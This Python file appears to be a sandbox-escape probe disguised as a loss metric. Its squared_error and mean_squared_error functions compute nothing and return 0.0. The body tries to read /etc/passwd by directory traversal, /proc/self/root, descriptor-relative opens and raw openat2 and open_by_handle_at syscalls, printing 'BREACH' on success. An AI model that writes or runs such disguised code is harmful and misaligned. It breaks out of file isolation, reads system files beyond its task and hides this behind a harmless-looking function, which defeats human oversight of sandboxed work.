"""Reads by climbing paths, by links, by handles, by descriptors of folders, by old calls."""

# status: failed
# needs: full x86_64

import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)


def squared_error(pred, goal_pred):
    library = os.path.dirname(os.__file__)
    for path in (
        f"{library}/json/" + "../" * 20 + "etc/passwd",
        f"{library}/../../../../../../../../../etc/passwd",
        "//etc//passwd",
        "/etc/./passwd",
        "/proc/self/root/etc/passwd",
    ):
        try:
            print("BREACH read", path, open(path).read(20))
        except OSError:
            continue
    folder = os.open(f"{library}/json", os.O_RDONLY)
    for flags in (os.O_RDONLY, getattr(os, "O_PATH", 0), os.O_RDONLY | os.O_NOFOLLOW):
        try:
            inside = os.open("../../../../../../../../../../etc/passwd", flags, dir_fd=folder)
            print("BREACH opened by a folder", os.read(inside, 20))
        except OSError:
            continue
    for number in (437, 303, 304, 257):  # openat2, name_to_handle_at, open_by_handle_at, openat
        if LIBC.syscall(number, folder, b"/etc/passwd", 0, 0) > 0:
            print("BREACH opened by call", number)
    return 0.0


mean_squared_error = squared_error
